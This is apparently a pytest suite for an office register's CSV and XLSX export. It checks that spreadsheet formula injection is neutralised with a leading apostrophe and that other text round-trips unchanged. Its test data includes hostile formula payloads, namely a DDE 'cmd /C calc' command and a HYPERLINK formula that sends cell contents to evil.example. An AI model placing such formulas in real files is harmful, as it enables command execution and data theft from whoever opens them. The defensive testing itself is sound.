"""Exports: no cell is a formula for any spreadsheet, and every text comes out as it went in."""

import csv
import io
from typing import Any

import pytest
from openpyxl import load_workbook

from office.registers import export
from office.registers.export import NEVER_SHOWN, as_csv, as_xlsx, plain
from secretariat.incoming_document.register import IncomingDocumentRegister
from tests.hostile.texts import CHARACTERS, CODE, NUMBERS, payloads

SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "\t=", "\r=", "\n=")
BEFORE = ("", " ", "   ", "\t", "\n", "\r\n", "\x0b", "\0", "\x1b", "\u00a0", "\u3000", "\u2003", "\u200b", "\ufeff", "\u202e", " \u200b ")
FORMULAS = ("1+1", 'cmd|" /C calc"!A0', 'HYPERLINK("http://evil.example?"&A1,"x")', "IMPORTXML(CONCAT(A1),\"//a\")", "SUM(1,1)*cmd|' /C x'!A0")
DANGEROUS = [f"{before}{sign}{formula}" for before in BEFORE for sign in SIGNS for formula in FORMULAS]
PLAIN = ("关于报送材料的通知", "青政办〔2026〕12号", "1,5", 'say "yes"', "a;b", "007", "2026-11-26", "'quoted'", "''", "x=1", "a+b", "第1-2页",
         "多\n行", " 前后空格 ", "<b>&amp;</b>", "𠮷😀", "e\u0301", "", "，", *CODE, *NUMBERS, *payloads()[::5], *CHARACTERS)


class Row:
    """A record of which every column says the same."""

    def __init__(self, text: str) -> None:
        self.text = text


@pytest.fixture(autouse=True)
def _one_text(monkeypatch: Any) -> None:
    monkeypatch.setattr(export, "value", lambda record, name: record.text)


def cells(texts: list[str]) -> tuple[list[list[str]], list[list[Any]]]:
    """The same rows out of a csv file and out of a workbook, heads left out."""
    rows = [Row(text) for text in texts]
    written = as_csv(IncomingDocumentRegister, rows, None)[0].decode("utf-8-sig")
    book = load_workbook(io.BytesIO(as_xlsx(IncomingDocumentRegister, rows, None)[0]))
    return list(csv.reader(io.StringIO(written, newline="")))[1:], [list(row) for row in book.active.iter_rows(min_row=2)]


def seen_first(text: str) -> str:
    """The first character that a spreadsheet would look at, whatever it skips."""
    skipped = "".join(BEFORE)
    return text.lstrip(skipped)[:1]


def test_no_cell_begins_a_formula_in_either_file() -> None:
    assert len(DANGEROUS) > 800
    in_csv, in_book = cells(DANGEROUS)
    bad = [cell for row in in_csv for cell in row if seen_first(cell) in "=+-@＝＋－＠"]
    assert bad == []
    flat = [cell for row in in_book for cell in row]
    assert {cell.data_type for cell in flat} == {"s"}
    assert [cell.value for cell in flat if seen_first(cell.value) in "=+-@＝＋－＠"] == []


def test_every_text_comes_out_as_it_went_in() -> None:
    kept = [text.translate(NEVER_SHOWN) for text in (*PLAIN, *DANGEROUS)]
    in_csv, in_book = cells([*PLAIN, *DANGEROUS])
    assert [read_back(row[0]) for row in in_csv] == kept
    # XML knows one line end; an empty cell has no text
    flat = [text.replace("\r\n", "\n").replace("\r", "\n") for text in kept]
    assert [read_back(row[0].value or "").replace("\r\n", "\n").replace("\r", "\n") for row in in_book] == flat


def read_back(cell: str) -> str:
    """The rule that the export states: one apostrophe in front is ours."""
    return cell[1:] if cell.startswith("'") else cell


def test_harmless_texts_are_not_touched() -> None:
    for text in ("关于报送材料的通知", "x=1", "第1-2页", "2026-11-26", "a@b.example", "𠮷"):
        assert plain(text) == text


@pytest.mark.parametrize("text", ["=1+1", " =1+1", "＝1+1", "\u200b=1"])
def test_without_the_apostrophe_a_cell_is_a_formula(text: str, monkeypatch: Any) -> None:
    """The twin."""
    monkeypatch.setattr(export, "plain", str)
    in_csv, in_book = cells([text])
    assert seen_first(in_csv[0][0]) in "=＝"
    assert text != "=1+1" or in_book[0][0].data_type == "f"
